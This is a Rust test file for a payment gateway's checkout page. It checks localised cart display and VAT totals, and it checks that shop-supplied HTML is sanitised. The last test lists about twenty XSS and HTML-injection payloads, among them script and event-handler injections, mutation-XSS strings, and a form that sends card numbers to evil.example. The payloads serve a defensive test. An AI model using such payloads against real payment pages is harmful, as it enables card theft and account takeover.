//! What is bought, beside the form: the cart, or the shop's own HTML without anything that could do harm.

use super::link;
use crate::harness::{Database, Gateway};
use serde_json::{Value, json};

fn with_cart(mut order: Value, items: usize) -> Value {
    let item = json!({"name": "<b>Fiets</b> & bel", "unit_price": "41.3223140496", "quantity": 1.5});
    order["shopping_cart"] = json!({"items": vec![item; items]});
    order["checkout_options"] = json!({"tax_tables": {"default": {"rate": "0.21"}}});
    order
}

#[tokio::test]
async fn a_cart_is_shown_in_the_customers_language_with_prices_that_include_vat() {
    let gateway = Gateway::start(Database::Sqlite).await;
    let link = link(&gateway, &with_cart(gateway.order("1"), 2)).await;
    for (lang, line, total, tax) in [
        ("nl_NL", "1,5 × <b>Fiets</b> & bel € 75,00", "Totaal€ 150,00", "Waarvan btw€ 26,03"),
        ("en_US", "1.5 × <b>Fiets</b> & bel €75.00", "Total€150.00", "VAT included€26.03"),
    ] {
        let page = gateway.customer().open(&link.replace("nl_NL", lang)).await;
        let text = |selector: &str| page.text(selector).replace('\u{a0}', " ");
        assert_eq!(text(".cart li"), line);
        assert_eq!(text(".cart-total"), total);
        assert_eq!(text(".cart-tax"), tax);
        assert_eq!(text(".summary-amount"), if lang == "nl_NL" { "€ 10,00" } else { "€10.00" });
        assert!(page.has(".cart[open]") && page.has("#card_number"));
    }
}

#[tokio::test]
async fn a_long_cart_is_folded_and_a_hidden_one_is_not_there() {
    let gateway = Gateway::start(Database::Sqlite).await;
    let long = link(&gateway, &with_cart(gateway.order("long"), 40)).await;
    let page = gateway.customer().open(&long).await;
    assert!(page.has(".cart") && !page.has(".cart[open]") && page.text(".cart summary").ends_with("(40)"));
    let mut order = with_cart(gateway.order("hidden"), 1);
    order["items"] = json!("<b>2 tickets</b>");
    let shown = link(&gateway, &order).await;
    let page = gateway.customer().open(&shown).await;
    assert!(page.has(".shop-html b") && !page.has(".cart"), "the shop's own words instead of the cart");
    order["payment_options"]["template"] = json!({"settings": {"hide_cart": true}});
    let page = gateway.customer().open(&link(&gateway, &order).await).await;
    assert!(!page.has(".shop-html") && !page.has(".cart"));
}

#[tokio::test]
async fn nothing_of_the_shops_html_can_do_anything() {
    let gateway = Gateway::start(Database::Sqlite).await;
    for (at, html) in [
        "<script>alert(1)</script>",
        "<img src=https://evil.example/x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<a href=javascript:alert(1)>x</a>",
        "<iframe src=https://evil.example></iframe>",
        "<form action=https://evil.example><input name=card_number></form>",
        "</div></section></form><h1>x</h1><form>",
        "<style>*{display:none}</style>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<base href=https://evil.example>",
        "<div style='position:fixed;inset:0' class=ribbon id=card_number>x</div>",
        "<b onclick=alert(1) onfocus=alert(1) autofocus tabindex=1>x</b>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<object data=https://evil.example></object><embed src=https://evil.example>",
        "<button form=x formaction=https://evil.example>Pay</button>",
        "<table background=https://evil.example><tr><td background=https://evil.example>x",
        "<template><script>alert(1)</script></template><textarea></textarea><select><option>x</select>",
        "<details open ontoggle=alert(1)>x</details><video src=https://evil.example autoplay></video>",
    ]
    .into_iter()
    .enumerate()
    {
        let mut order = gateway.order(&at.to_string());
        order["items"] = json!(format!("<b>bought</b>{html}"));
        let page = gateway.customer().open(&link(&gateway, &order).await).await;
        assert_eq!(gateway.read(&at.to_string()).await["items"], order["items"], "kept as it was sent");
        assert!(page.text(".shop-html").starts_with("bought"), "{html}");
        for forbidden in ["evil.example", "alert(1)", "onerror", "javascript:", "style="] {
            assert!(!page.html.contains(forbidden), "{html}: {forbidden}");
        }
        assert!(!page.has(".shop-html :is(script, form, input, a, iframe, style, svg, math, [id], [class], [src])"));
        assert!(page.has("main > .panel form[method=post] #card_number"), "{html}: the form stays where it is");
        assert!(page.has("main > .summary > .shop-html > b"), "{html}");
    }
}
